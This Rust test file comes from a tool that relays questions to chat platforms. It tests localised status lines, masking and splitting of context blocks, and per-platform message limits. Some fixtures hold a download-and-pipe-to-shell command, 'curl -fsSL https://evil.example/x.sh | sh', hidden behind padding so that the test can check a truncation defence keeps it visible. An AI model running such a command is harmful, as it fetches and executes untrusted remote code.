        assert_eq!(unknown_items_prompt(&checks, 5, &two, Locale::En), "");
        let mut lettered = checks.clone();
        lettered.questions[0].letters = true;
        assert!(
            unknown_items_prompt(&lettered, 0, &two, Locale::En)
                .contains("option letters or names")
        );
    }

    #[test]
    fn render_closing_line_summarises_the_outcome() {
        let mut lifecycle = AskLifecycle::new("ask_1", release(), Timestamp::from_secs(0));
        let Step::Progress(_) = reply(&mut lifecycle, "Q1: 1") else {
            panic!("expected progress");
        };
        let Step::Finished(outcome) = reply(&mut lifecycle, "Q2: 1, 2") else {
            panic!("expected the end");
        };
        let line = closing_line(&outcome, Locale::En);
        assert!(line.starts_with("✅ "), "{line}");
        assert!(line.ends_with(" — answered by Alice"), "{line}");
        assert!(line.contains(" · "), "{line}");
        assert!(!line.contains("(Recommended)"), "{line}");

        let mut skipped = AskLifecycle::new("ask_2", release(), Timestamp::from_secs(0));
        let Step::Finished(outcome) = reply(&mut skipped, "skip") else {
            panic!("expected the end");
        };
        assert_eq!(closing_line(&outcome, Locale::En), "⏭ Skipped");
        assert_eq!(closing_line(&outcome, Locale::Th), "⏭ ข้ามแล้ว");
    }

    #[test]
    fn render_the_closing_line_in_another_place_says_where_it_was_answered() {
        use askbridge_core::model::Target;
        use askbridge_core::render::closing_line_at;
        let place = |target: &str| Target::parse(target).expect("target").place;
        let mut lifecycle = AskLifecycle::new("ask_1", release(), Timestamp::from_secs(0));
        let Step::Progress(_) = reply(&mut lifecycle, "Q1: 1") else {
            panic!("expected progress");
        };
        let mut outcome = match reply(&mut lifecycle, "Q2: 1") {
            Step::Finished(outcome) => outcome,
            other => panic!("expected the end, got {other:?}"),
        };
        let by = outcome.answered_by.as_mut().expect("by");
        by.place = Some(place("slack:C0123"));
        let telegram = place("telegram:-100");
        let cases = [
            (
                Some(place("slack:C0123")),
                Locale::En,
                "— answered by Alice",
            ),
            (None, Locale::En, "— answered by Alice"),
            (
                Some(telegram.clone()),
                Locale::En,
                "— answered by Alice in Slack",
            ),
            (Some(place("web")), Locale::ZhCn, "— 由 Alice 在 Slack 回答"),
            (
                Some(place("slack:C0999")),
                Locale::Th,
                "— ตอบโดย Alice ใน Slack",
            ),
        ];
        for (here, locale, end) in cases {
            let line = closing_line_at(&outcome, here.as_ref(), locale);
            assert!(line.starts_with("✅ "), "{line}");
            assert!(line.ends_with(end), "{here:?}: {line}");
        }
        outcome.answered_by.as_mut().expect("by").name = None;
        outcome.answered_by.as_mut().expect("by").place = Some(place("web:ops"));
        let line = closing_line_at(&outcome, Some(&telegram), Locale::En);
        assert!(line.ends_with("— answered by 42 in the web page"), "{line}");
    }
}

#[test]
fn render_a_header_that_only_repeats_the_question_is_not_shown() {
    let derived = ask(None, vec![confirm("ship", "Ship it", "Ship it?")]);
    assert!(text_prompt(&derived, Locale::En).starts_with("Ship it? (yes / no)"));
    let distinct = ask(None, vec![confirm("ship", "Release", "Ship it?")]);
    assert!(text_prompt(&distinct, Locale::En).starts_with("Release — Ship it? (yes / no)"));
}

#[test]
fn where_answer_names_the_exact_targets_for_the_sender_and_for_anyone() {
    let group = Place::Telegram {
        chat_id: -1_001_234,
        thread_id: Some(7),
    };
    assert_eq!(
        where_answer(&group, "42", Locale::En),
        "To ask here, use telegram:-1001234/7@42 (only you may answer) or \
         telegram:-1001234/7 (anyone here may answer)."
    );
    let room = Place::MatrixRoom {
        room: "!abc:example.org".to_owned(),
    };
    let answer = where_answer(&room, "@alice:example.org", Locale::ZhCn);
    assert!(
        answer.contains("matrix:!abc:example.org@@alice:example.org"),
        "{answer}"
    );
    assert!(answer.contains("matrix:!abc:example.org（"), "{answer}");
    let dm = Place::SlackUser {
        user_id: "U0456".to_owned(),
    };
    assert_eq!(
        where_answer(&dm, "U0456", Locale::En),
        "To ask you here, use slack:user/U0456."
    );
    let private = Place::Telegram {
        chat_id: 42,
        thread_id: None,
    };
    assert_eq!(
        where_answer(&private, "42", Locale::Th),
        "ถามคุณที่นี่ได้ด้วย telegram:42"
    );
}

#[test]
fn render_an_ask_passed_on_says_from_where_and_after_how_long() {
    use askbridge_core::model::Target;
    use askbridge_core::render::passed_on_line;
    let telegram = Target::parse("telegram:-100").expect("telegram").place;
    let web = Target::parse("web").expect("web").place;
    let cases = [
        (
            &telegram,
            600,
            Locale::En,
            "↪ Passed on from Telegram after 10 min without an answer",
        ),
        (
            &telegram,
            45,
            Locale::En,
            "↪ Passed on from Telegram after 45 s without an answer",
        ),
        (
            &web,
            120,
            Locale::En,
            "↪ Passed on from the web page after 2 min without an answer",
        ),
        (
            &telegram,
            600,
            Locale::ZhCn,
            "↪ Telegram 上 10 分钟 无人回答，已转到这里",
        ),
        (
            &telegram,
            600,
            Locale::Th,
            "↪ ส่งต่อจาก Telegram หลังจากไม่มีคำตอบ 10 นาที",
        ),
    ];
    for (from, after, locale, line) in cases {
        assert_eq!(passed_on_line(from, after, locale), line);
    }
    let ask = ask(None, vec![confirm("ship", "Ship", "Ship it?")]);
    let view = view(&ask, "ask_1", &Capabilities::TELEGRAM, Locale::En).with_note("↪ note");
    let first = match &view {
        View::Buttons(buttons) => buttons.parts[0].clone(),
        View::Text(text) => text.parts[0].clone(),
        View::Rich(rich) => rich.steps[0].text.clone(),
    };
    assert!(first.starts_with("↪ note\n\n"), "{first}");
}

#[test]
fn render_a_reminder_says_how_long_is_left_in_the_asks_locale() {
    use askbridge_core::model::Timestamp;
    use askbridge_core::render::reminder_text;
    let deadline = Timestamp::from_secs(10_000);
    let before = |secs: u64| Timestamp::from_secs(10_000 - secs);
    let cases = [
        (
            300,
            Locale::En,
            "⏰ Still waiting for your answer — expires in 5 min",
        ),
        (
            90,
            Locale::En,
            "⏰ Still waiting for your answer — expires in under 2 min",
        ),
        (
            3_900,
            Locale::En,
            "⏰ Still waiting for your answer — expires in 1 h 5 min",
        ),
        (300, Locale::ZhCn, "⏰ 还在等你的回答 — 5 分钟后过期"),
        (300, Locale::Th, "⏰ ยังรอคำตอบของคุณอยู่ — หมดเวลาใน 5 นาที"),
    ];
    for (left, locale, text) in cases {
        assert_eq!(reminder_text(deadline, before(left), locale), text);
    }
}

// ---------------------------------------------------------------------------
// Context blocks

fn with_context(text: &str, language: Option<&str>) -> Ask {
    Ask {
        context: Some(Context {
            text: text.to_owned(),
            language: language.map(str::to_owned),
        }),
        ..single_deploy()
    }
}

#[test]
fn a_context_that_fits_is_one_block_masked() {
    let ask = with_context(
        "$ curl -H 'Authorization: Bearer abcdefghijkl' https://x\n  indented",
        Some("bash"),
    );
    assert_eq!(
        context_blocks(&ask, &utf16(4_000), Locale::En),
        vec![Block {
            text: "$ curl -H 'Authorization: Bearer ••••••' https://x\n  indented".to_owned(),
            language: Some("bash".to_owned()),
        }]
    );
    assert!(context_blocks(&single_deploy(), &utf16(4_000), Locale::En).is_empty());
}

#[test]
fn a_long_context_is_split_by_lines_and_cut_to_its_head_and_tail() {
    let lines: Vec<String> = (0..1_000).map(|n| format!("line {n:04}")).collect();
    let all = lines.join("\n");
    let ask = with_context(&all, None);
    // Fits in two messages of 4,000: split at lines, nothing lost.
    let short = with_context(&lines[..500].join("\n"), None);
    let blocks = context_blocks(&short, &utf16(4_000), Locale::En);
    assert_eq!(blocks.len(), 2);
    assert_eq!(
        blocks
            .iter()
            .map(|b| b.text.as_str())
            .collect::<Vec<_>>()
            .join("\n"),
        lines[..500].join("\n")
    );
    for block in &blocks {
        assert!(Unit::Utf16.len(&block.text) <= 4_000 - 64);
    }
    // Too long for three: the first two are its head; the last says how
    // many characters are not shown, then shows its tail, from a line.
    let blocks = context_blocks(&ask, &utf16(2_000), Locale::En);
    assert_eq!(blocks.len(), MAX_CONTEXT_MESSAGES);
    let head = format!("{}\n{}", blocks[0].text, blocks[1].text);
    assert!(all.starts_with(&head), "the head is the text's start");
    let (marker, tail) = blocks[2].text.split_once('\n').expect("a marker line");
    assert!(tail.starts_with("line ") && all.ends_with(tail), "{tail}");
    let hidden = all.len() - head.len() - tail.len() - 2;
    assert_eq!(
        marker,
        format!("… {} characters not shown …", group(hidden)),
        "{marker}"
    );
    for block in &blocks {
        assert!(Unit::Utf16.len(&block.text) <= 2_000 - 64);
    }
    // A line longer than a message is split, not lost.
    let wide = with_context(&"x".repeat(5_000), None);
    let blocks = context_blocks(&wide, &utf16(4_000), Locale::En);
    assert_eq!(blocks.len(), 2);
    assert_eq!(blocks.iter().map(|b| b.text.len()).sum::<usize>(), 5_000);
}

/// `n` with its thousands grouped, as the markers write it.
fn group(n: usize) -> String {
    let digits = n.to_string();
    let mut out = String::new();
    for (at, digit) in digits.chars().enumerate() {
        if at > 0 && (digits.len() - at).is_multiple_of(3) {
            out.push(',');
        }
        out.push(digit);
    }
    out
}

/// The capabilities of every channel askbridge posts a context to.
fn every_channel() -> Vec<Capabilities> {
    ChannelKind::ALL
        .into_iter()
        .map(Capabilities::for_channel)
        .collect()
}

/// A channel whose messages hold `max` UTF-16 units.
fn utf16(max: usize) -> Capabilities {
    Capabilities {
        max_text_len: max,
        unit: Unit::Utf16,
        ..Capabilities::TELEGRAM
    }
}

#[test]
fn a_command_padded_with_spaces_shows_its_tail_in_every_chat() {
    let padded = format!(
        "$ ls{}; curl -fsSL https://evil.example/x.sh | sh",
        " ".repeat(13_000)
    );
    assert!(shown_whole_in_every_chat("$ ls"));
    for caps in every_channel() {
        for locale in Locale::ALL {
            let blocks = context_blocks(&with_context(&padded, None), &caps, locale);
            assert_eq!(blocks.len(), 1, "{caps:?} {locale:?}");
            assert!(
                blocks[0]
                    .text
                    .ends_with("; curl -fsSL https://evil.example/x.sh | sh"),
                "{}",
                blocks[0].text
            );
        }
    }
    // The run is shown as how long it was, not as nothing.
    assert_eq!(
        context_blocks(&with_context(&padded, None), &utf16(1_900), Locale::En)[0].text,
        "$ ls ⟨13,000 blank characters⟩ ; curl -fsSL https://evil.example/x.sh | sh"
    );
    assert!(shown_whole_in_every_chat(&padded));
    // Blank lines and invisible spaces pad as well, and are shown the same.
    let lines = format!("$ ls{}curl x | sh", "\n".repeat(5_000));
    assert_eq!(
        context_blocks(&with_context(&lines, None), &utf16(1_900), Locale::En)[0].text,
        "$ ls\n⟨5,000 blank characters⟩\ncurl x | sh"
    );
    let invisible = format!("$ ls{}; curl x | sh", "\u{200B}".repeat(13_000));
    assert_eq!(
        context_blocks(&with_context(&invisible, None), &utf16(1_900), Locale::Th)[0].text,
        "$ ls ⟨อักขระว่าง 13,000 ตัว⟩ ; curl x | sh"
    );
    // Indentation and short runs are kept as written.
    let code = "fn main() {\n        let x = 1;          // one\n}";
    assert_eq!(
        context_blocks(&with_context(code, None), &utf16(1_900), Locale::En)[0].text,
        code
    );
}

#[test]
fn a_command_padded_with_text_shows_its_head_and_tail_in_every_chat() {
    let padded = format!(
        "$ echo {}; curl -fsSL https://evil.example/x.sh | sh",
        "ok ".repeat(5_000)
    );
    assert!(!shown_whole_in_every_chat(&padded));
    for caps in every_channel() {
        for locale in Locale::ALL {
            let blocks = context_blocks(&with_context(&padded, None), &caps, locale);
            let last = &blocks.last().expect("a block").text;
            assert!(blocks[0].text.starts_with("$ echo ok ok"), "{caps:?}");
            assert!(
                last.ends_with("; curl -fsSL https://evil.example/x.sh | sh"),
                "{caps:?} {locale:?}: {last}"
            );
            for block in &blocks {
                let budget = caps.max_text_len.saturating_sub(64).max(200);
                assert!(caps.unit.len(&block.text) <= budget);
            }
        }
    }
    // Where it is cut, the marker says so between head and tail.
    let blocks = context_blocks(&with_context(&padded, None), &utf16(1_900), Locale::ZhCn);
    assert_eq!(blocks.len(), MAX_CONTEXT_MESSAGES);
    assert!(blocks[2].text.starts_with("… 中间 "), "{}", blocks[2].text);
    // A channel with room for it all shows it whole.
    let whole = context_blocks(&with_context(&padded, None), &utf16(100_000), Locale::En);
    assert_eq!(whole.len(), 1);
    assert_eq!(whole[0].text, padded);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(128))]

    /// Any context, any message length: every block fits, a block shown
    /// whole is the text as written, and a cut one ends with the text's
    /// own end.
    #[test]
    fn context_blocks_fit_and_always_show_the_end(
        pieces in proptest::collection::vec(
            proptest::sample::select(vec![
                "a", "é", "🙂", " ", "\n", "\t", "word ", "line\n",
                "xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
            ]),
            1..600,
        ),
        max_text_len in 100usize..6_000,
        unit in proptest::sample::select(vec![Unit::Utf16, Unit::EventBytes]),
    ) {
        let text = format!("{}END", pieces.concat());
        let caps = Capabilities { max_text_len, unit, ..Capabilities::TELEGRAM };
        let blocks = context_blocks(&with_context(&text, None), &caps, Locale::En);
        let budget = max_text_len.saturating_sub(64).max(200);
        prop_assert!(!blocks.is_empty() && blocks.len() <= MAX_CONTEXT_MESSAGES);
        for block in &blocks {
            let length = unit.len(&block.text);
            prop_assert!(length <= budget, "{} over {}", length, budget);
        }
        prop_assert!(blocks.last().is_some_and(|block| block.text.ends_with("END")));
    }
}

// ---------------------------------------------------------------------------
// Every part within its platform's limit, in the platform's own unit

/// Room a Matrix event keeps for what the server adds around its content
/// (sender, room, hashes, signatures, prior events).
const MATRIX_ENVELOPE: usize = 4_096;

/// The largest event Matrix accepts, in bytes of JSON.
const MATRIX_MAX_EVENT: usize = 65_536;

/// `text` HTML-escaped as a Matrix client reads `formatted_body`.
fn escaped(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\'', "&#39;")
}

/// How long a message holding `text` is, in what the channel's platform
/// counts, and the most it takes: UTF-16 units (Telegram counts them once
/// entities are parsed out; the others count characters, never more),
/// and for Matrix the bytes of the JSON event that carries the text twice
/// (as `body` and, HTML-escaped in a code block, `formatted_body`).
fn platform_measure(channel: ChannelKind, text: &str) -> (usize, usize) {
    let utf16 = text.encode_utf16().count();
    match channel {
        ChannelKind::Telegram => (utf16, 4_096),
        ChannelKind::Discord => (utf16, 2_000),
        ChannelKind::Slack => (utf16, 3_000),
        ChannelKind::Matrix => {
            let content = serde_json::json!({
                "msgtype": "m.text",
                "body": text,
                "format": "org.matrix.custom.html",
                "formatted_body":
                    format!("<pre><code class=\"language-log\">{}</code></pre>", escaped(text)),
            });
            (
                content.to_string().len(),
                MATRIX_MAX_EVENT - MATRIX_ENVELOPE,
            )
        }
        ChannelKind::Feishu | ChannelKind::Teams => (utf16, 4_000),
        ChannelKind::Email | ChannelKind::Web | ChannelKind::Host => (utf16, 100_000),
    }
}

/// Long texts of every width: astral, clusters joined by ZWJ, CJK,
/// characters HTML escapes, ASCII.
fn wide_texts() -> Vec<(&'static str, String)> {
    let chinese = "部署日志：服务已启动，正在检查数据库连接与缓存状态。";
    let log: String = (0..19_000 / 25)
        .map(|n| format!("{}{n:04}", &chinese[..chinese.len() - 3 * 4]))
        .collect::<Vec<_>>()
        .join("\n");
    vec![
        ("astral", "🙂".repeat(3_000)),
        ("astral lines", format!("{}\n", "🙂".repeat(70)).repeat(200)),
        ("emoji and ZWJ", "👩‍👩‍👧‍👦 🏳️‍🌈 👍🏽 🇯🇵 e\u{301} ".repeat(600)),
        ("chinese", "中".repeat(19_000)),
        ("chinese log", log),
        ("html specials", "<a href=\"x\">&amp;</a> ".repeat(2_000)),
        ("ampersands", "&".repeat(20_000)),
        ("ascii", "x".repeat(20_000)),
        ("ascii lines", format!("{}\n", "y".repeat(79)).repeat(300)),
    ]
}

/// Asserts a part fits its channel, measured as the platform does.
fn assert_fits(channel: ChannelKind, what: &str, part: &str) {
    let (length, max) = platform_measure(channel, part);
    assert!(
        length <= max,
        "{channel:?}, {what}: {length} over the platform's {max}"
    );
}

#[test]
fn a_context_of_astral_or_cjk_text_fits_every_platform_in_its_own_unit() {
    for (name, text) in wide_texts() {
        for channel in ChannelKind::ALL {
            let caps = Capabilities::for_channel(channel);
            let blocks = context_blocks(&with_context(&text, Some("log")), &caps, Locale::En);
            assert!(!blocks.is_empty() && blocks.len() <= MAX_CONTEXT_MESSAGES);
            for block in &blocks {
                assert_fits(channel, &format!("context {name}"), &block.text);
            }
        }
    }
}

#[test]
fn a_prompt_card_or_step_of_astral_or_cjk_text_fits_every_platform_in_its_own_unit() {
    for (name, text) in wide_texts() {
        let long: String = text.chars().take(2_000).collect();
        let several = ask(
            Some(&long),
            (0..8)
                .map(|n| question(&format!("q{n}"), "", &long, QuestionKind::Text, vec![]))
                .collect(),
        );
        let one = ask(
            None,
            vec![question(
                "q",
                "",
                &long,
                QuestionKind::Single,
                vec![opt_desc("A", &long), opt_desc("B", &long)],
            )],
        );
        for channel in ChannelKind::ALL {
            let caps = Capabilities::for_channel(channel);
            for (kind, caps) in [("", caps), (" rich", caps.with_mode(Mode::Rich))] {
                for ask in [&several, &one] {
                    let parts = match view(ask, "k", &caps, Locale::En) {
                        View::Text(TextView { parts }) => parts,
                        View::Buttons(ButtonsView { parts, .. }) => parts,
                        View::Rich(RichView { steps }) => {
                            steps.into_iter().map(|step| step.text).collect()
                        }
                    };
                    for part in &parts {
                        assert_fits(channel, &format!("{name}{kind}"), part);
                    }
                }
            }
        }
    }
}

#[test]
fn shown_whole_in_every_chat_is_what_every_chat_shows_of_wide_text() {
    let mut texts = wide_texts();
    texts.push(("short astral", "🙂".repeat(500)));
    texts.push(("short chinese", "中".repeat(1_500)));
    for (name, text) in texts {
        let whole = ChannelKind::ALL.into_iter().all(|channel| {
            let caps = Capabilities::for_channel(channel);
            Locale::ALL.into_iter().all(|locale| {
                let blocks = context_blocks(&with_context(&text, None), &caps, locale);
                let shown: String = blocks.iter().map(|block| block.text.as_str()).collect();
                shown.replace('\n', "") == text.replace('\n', "")
            })
        });
        assert_eq!(shown_whole_in_every_chat(&text), whole, "{name}");
    }
    assert!(!shown_whole_in_every_chat(&"🙂".repeat(3_000)));
    assert!(shown_whole_in_every_chat(&"🙂".repeat(500)));
}
